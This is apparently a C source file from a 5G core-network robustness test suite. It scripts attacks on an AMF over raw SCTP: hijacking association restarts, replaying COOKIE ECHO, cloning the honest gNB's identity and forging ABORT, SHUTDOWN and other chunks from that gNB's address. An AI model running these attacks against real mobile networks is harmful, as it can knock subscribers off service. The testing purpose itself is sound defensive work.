/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Class 6, by hand: the attacker restarts its association in place, at which nothing is left of what it was, and says things in
 * the name of an association that is not its own.
 */
#include "ran/hostile_attack.h"
#include "ran/raw_sctp.h"

#define COUNT(array) (sizeof(array) / sizeof *(array))

enum { PATIENCE_S = 2, IN_A_ROW = 20, FIRST_TAG = 0x00517000, FORGED_BYTES = 24, STREAMS = 16 };

/* --- The attacker's own association --- */

/* What was on its way to the association of before comes by the stack, and does not count any more (hostile.c). */
static void heard(void *context, struct bytes message)
{
    struct attack *attack = context;
    attack->by_hand = true;
    ran_gnb_on_ngap(&attack->station->gnb, message);
    attack->by_hand = false;
}

static void stirred(void *context)
{
    struct attack *attack = context;
    waiter_wake(&attack->waiter);
}

static bool is_answered(void *argument)
{
    return ((const struct attack *)argument)->restarted->answered;
}

static bool is_up(void *argument)
{
    return ((const struct attack *)argument)->restarted->up;
}

static uint32_t new_tag(void)
{
    static uint32_t tag = FIRST_TAG;
    return ++tag;
}

/* In place of the stack, whose association it is until the core hears COOKIE ECHO. */
static bool open_beside(struct attack *attack, struct raw_sctp *raw)
{
    const union socket_address own = sctp_local(attack->station->n2);
    *raw = (struct raw_sctp){.streams = STREAMS, .heard = heard, .stirred = stirred, .context = attack};
    if (!raw_sctp_open(raw, attack->driver.loop, &own, &attack->options->attacked)) {
        attack_fail(attack, "no raw socket: run as root");
        return false;
    }
    attack->restarted = raw;
    return true;
}

/* The core may wait for a moment with its answer, but not for ever. */
static bool restart(struct attack *attack)
{
    raw_sctp_begin(attack->restarted, new_tag());
    bool done = waiter_until(&attack->waiter, is_up, attack, SECONDS(PATIENCE_S));
    if (!done)
        attack_fail(attack, "the core does not let an association be restarted");
    return done;
}

/* Judged while it is as it is; then both sides are rid of it. */
static void end(struct attack *attack)
{
    struct raw_sctp *raw = attack->restarted;
    attack_end(attack);
    if (raw->up)
        raw_sctp_send(raw, raw->peer_tag, RAW_SCTP_ABORT, 0, (struct bytes){0});
    raw_sctp_close(raw);
    attack->restarted = NULL;
    attack_leave(attack, true);
}

/* Once with its phone served, and restarted: false when it cannot be tried. What the core still had to say to the phone has come by then. */
static bool begin(struct attack *attack, struct raw_sctp *raw, struct ids *ids)
{
    *ids = attack_own(attack);
    attack_fence(attack);
    if (!open_beside(attack, raw))
        return false;
    if (restart(attack))
        return true;
    end(attack);
    return false;
}

/* Of its phone, that it had before: the core has to have forgotten both. */
static void speak_of_former(struct attack *attack, enum ngap_message_type type, struct ids ids)
{
    struct raw_pdu message;
    attack_forbid(attack, NGAP_DOWNLINK_NAS_TRANSPORT);
    arena_reset(&attack->arena);
    if (attack_message(attack, type, &message))
        attack_send_raw(attack, &message, ids);
}

static void set_up_again(struct attack *attack, const struct ran_gnb_settings *claimed,
                         enum ngap_message_type answer)
{
    struct ran_gnb *gnb = &attack->station->gnb;
    const struct ran_gnb_settings own = gnb->settings;
    attack_await(attack, answer);
    if (answer != NGAP_NG_SETUP_RESPONSE)
        attack_forbid(attack, NGAP_NG_SETUP_RESPONSE);
    gnb->settings = *claimed;
    ran_gnb_setup(gnb);
    gnb->settings = own;
}

static bool has_setup_answer(void *argument)
{
    return ((const struct attack *)argument)->heard[NGAP_NG_SETUP_RESPONSE];
}

static void play_messages(struct attack *attack)
{
    static const enum ngap_message_type types[] = {NGAP_UPLINK_NAS_TRANSPORT,
                                                   NGAP_HANDOVER_REQUIRED,
                                                   NGAP_UE_CONTEXT_RELEASE_REQUEST,
                                                   NGAP_PATH_SWITCH_REQUEST,
                                                   NGAP_PDU_SESSION_RESOURCE_SETUP_RESPONSE,
                                                   NGAP_NG_RESET,
                                                   NGAP_RAN_CONFIGURATION_UPDATE};
    struct raw_sctp raw;
    struct ids ids;
    for (size_t i = 0; i < COUNT(types); i++) {
        if (attack_variant(attack, "restarted, %s without NG Setup", ngap_message_name(types[i])) &&
            begin(attack, &raw, &ids)) {
            speak_of_former(attack, types[i], ids);
            end(attack);
        }
        if (attack_variant(attack, "restarted, NG Setup, %s about its phone of before",
                           ngap_message_name(types[i])) &&
            begin(attack, &raw, &ids)) {
            ran_gnb_setup(&attack->station->gnb);
            waiter_until(&attack->waiter, has_setup_answer, attack, SECONDS(PATIENCE_S));
            speak_of_former(attack, types[i], ids);
            end(attack);
        }
    }
}

static void play_identities(struct attack *attack)
{
    const struct hostile_options *options = attack->options;
    struct ran_gnb_settings foreign = options->attacker, cloned = options->attacker;
    struct raw_sctp raw;
    struct ids ids;
    foreign.plmn.octets[0] ^= 0x11;
    cloned.id = options->honest.id;
    if (attack_variant(attack, "restarted, NG Setup as it was") && begin(attack, &raw, &ids)) {
        set_up_again(attack, &options->attacker, NGAP_NG_SETUP_RESPONSE);
        end(attack);
    }
    if (attack_variant(attack, "restarted with one stream, NG Setup as it was") &&
        begin(attack, &raw, &ids)) {
        raw.streams = 1;
        if (restart(attack))
            set_up_again(attack, &options->attacker, NGAP_NG_SETUP_RESPONSE);
        end(attack);
    }
    if (attack_variant(attack, "restarted, NG Setup with a foreign PLMN") && begin(attack, &raw, &ids)) {
        set_up_again(attack, &foreign, NGAP_NG_SETUP_FAILURE);
        end(attack);
    }
    if (attack_variant(attack, "restarted, NG Setup with the honest gNB's identity") &&
        begin(attack, &raw, &ids)) {
        set_up_again(attack, &cloned, NGAP_NG_SETUP_FAILURE);
        end(attack);
    }
}

/* The stack's own association must still be heard. */
static void begin_only(struct attack *attack, struct raw_sctp *raw)
{
    raw->stops_short = true;
    raw_sctp_begin(raw, new_tag());
    waiter_until(&attack->waiter, is_answered, attack, SECONDS(PATIENCE_S));
    attack->restarted = NULL;
    attack_fence(attack);
    if (!attack->fence_answered)
        attack_fail(attack, "an INIT alone has ended the association");
    attack->restarted = raw;
}

static void play_handshakes(struct attack *attack)
{
    struct raw_sctp raw;
    struct ids ids;
    if (attack_variant(attack, "INIT in its own association, and no more") && attack_set_up(attack) &&
        open_beside(attack, &raw)) {
        begin_only(attack, &raw);
        end(attack);
    }
    if (attack_variant(attack, "restarted, and then silence") && begin(attack, &raw, &ids))
        end(attack);
    if (attack_variant(attack, "restarted, the same COOKIE ECHO again") && begin(attack, &raw, &ids)) {
        for (unsigned i = 0; i < IN_A_ROW; i++)
            raw_sctp_send(&raw, raw.peer_tag, RAW_SCTP_COOKIE_ECHO, 0,
                          bytes_of(raw.cookie, raw.cookie_length));
        end(attack);
    }
    if (attack_variant(attack, "restarted %u times in a row", IN_A_ROW) && begin(attack, &raw, &ids)) {
        for (unsigned i = 0; i < IN_A_ROW && restart(attack); i++)
            ran_gnb_setup(&attack->station->gnb);
        end(attack);
    }
}

/* --- Another's --- */

/* From the honest gNB's address and port, by one who cannot know its tags, nor hears what is answered. */
static void forge(struct attack *attack, uint8_t type, uint8_t flags, uint32_t tag)
{
    const union socket_address own = sctp_local(attack->honest->n2);
    uint8_t content[FORGED_BYTES];
    struct raw_sctp raw = {.heard = heard, .stirred = stirred, .context = attack};
    if (!raw_sctp_open(&raw, attack->driver.loop, &own, &attack->options->amf)) {
        attack_fail(attack, "no raw socket: run as root");
        return;
    }
    for (unsigned i = 0; i < sizeof content; i++)
        content[i] = (uint8_t)(tag >> 8 * (i % 4));
    raw_sctp_send(&raw, tag, type, flags, BYTES(content));
    raw_sctp_send(&raw, tag, type, flags, (struct bytes){0});
    raw_sctp_close(&raw);
}

static void play_forgeries(struct attack *attack)
{
    static const struct {
        const char *name;
        uint8_t type, flags;
    } chunks[] = {{"DATA", 0, 3},
                  {"INIT", 1, 0},
                  {"INIT ACK", 2, 0},
                  {"SACK", 3, 0},
                  {"HEARTBEAT", 4, 0},
                  {"HEARTBEAT ACK", 5, 0},
                  {"ABORT", 6, 0},
                  {"ABORT with the tag reflected", 6, 1},
                  {"SHUTDOWN", 7, 0},
                  {"SHUTDOWN ACK", 8, 0},
                  {"ERROR", 9, 0},
                  {"COOKIE ECHO", 10, 0},
                  {"COOKIE ACK", 11, 0},
                  {"SHUTDOWN COMPLETE", 14, 0},
                  {"SHUTDOWN COMPLETE with the tag reflected", 14, 1},
                  {"AUTH", 15, 0},
                  {"I-DATA", 64, 3},
                  {"RE-CONFIG", 130, 0},
                  {"ASCONF", 193, 0},
                  {"an unknown chunk", 255, 0}};
    static const uint32_t tags[] = {0, 1, UINT32_MAX};
    for (size_t i = 0; i < COUNT(chunks); i++)
        for (size_t j = 0; j < COUNT(tags); j++)
            if (attack_variant(attack, "%s in the honest gNB's name, tag %08x", chunks[i].name, tags[j]))
                forge(attack, chunks[i].type, chunks[i].flags, tags[j]);
}

void hostile_restarts(struct attack *attack)
{
    play_handshakes(attack);
    play_identities(attack);
    play_messages(attack);
    play_forgeries(attack);
}
